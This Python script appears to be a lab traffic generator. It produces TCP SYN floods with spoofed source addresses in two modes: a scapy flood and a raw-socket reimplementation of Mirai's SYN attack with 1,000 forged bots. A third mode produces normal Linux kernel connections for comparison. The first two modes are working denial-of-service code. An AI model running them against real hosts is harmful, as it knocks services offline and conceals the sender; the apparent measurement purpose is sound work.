#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""flood.py scapy|mirai|linux   for make.sh: what is no command of its own"""

import os
import random
import socket
import struct
import subprocess
import sys

TARGET = os.environ["TARGET"]
ROUTER = os.environ["ROUTER"]
SENT = int(os.environ["SENT"])


def scapy():
    """The flood of tutorials."""
    from scapy.all import IP, TCP, Ether, RandInt, RandIP, RandShort, sendp

    ip = IP(src=RandIP(), dst=TARGET) / TCP(sport=RandShort(), dport=80, seq=RandInt(), flags="S")
    sendp(Ether(dst=ROUTER) / ip, iface="eth0", count=SENT // 4, verbose=False)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def mirai():
    """Mirai's TCP SYN attack as its public source has it: window, MSS and time stamp are drawn once for each bot, the
    rest for each SYN. 1,000 bots with forged addresses."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    macs = bytes.fromhex(ROUTER.replace(":", "")) + bytes.fromhex("020000000001") + b"\x08\x00"
    target = socket.inet_aton(TARGET)
    bots = []
    for _ in range(1000):
        options = struct.pack("!BBH", 2, 4, 1400 + random.randrange(16)) + b"\x04\x02"
        options += struct.pack("!BBII", 8, 10, random.getrandbits(32), 0) + b"\x01\x03\x03\x06"
        bots.append((random.getrandbits(16), options))
    for _ in range(SENT // 4):
        window, options = random.choice(bots)
        source = random.getrandbits(32).to_bytes(4, "big")
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 60, random.getrandbits(16), 0x4000, 64, 6, 0) + source + target
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        ports = struct.pack("!HH", random.getrandbits(16), 80)
        tcp = ports + struct.pack("!IIBBHHH", random.getrandbits(32), 0, 0xA0, 2, window, 0, 0) + options
        pseudo = source + target + struct.pack("!HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        link.send(macs + ip + tcp)


def linux():
    """Connections of this machine's own kernel with the settings that people change. Each is given up at once, so no SYN
    is sent twice."""
    settings = ["", "tcp_timestamps=0", "tcp_sack=0", "tcp_window_scaling=0", "tcp_ecn=1", "tcp_rmem=4096 65536 131072"]
    usual = {name: open("/proc/sys/net/ipv4/" + name).read() for name in (s.split("=")[0] for s in settings) if name}
    for setting in settings:
        for name, value in {**usual, **dict([setting.split("=")] if setting else [])}.items():
            subprocess.run(["sysctl", "-qw", "net.ipv4.%s=%s" % (name, value)], check=True)
        for family, host in [(socket.AF_INET, TARGET), (socket.AF_INET6, "2001:db8:1::1")]:
            for _ in range(34):
                client = socket.socket(family, socket.SOCK_STREAM)
                client.setblocking(False)
                client.connect_ex((host, 443))
                client.close()


{"scapy": scapy, "mirai": mirai, "linux": linux}[sys.argv[1]]()
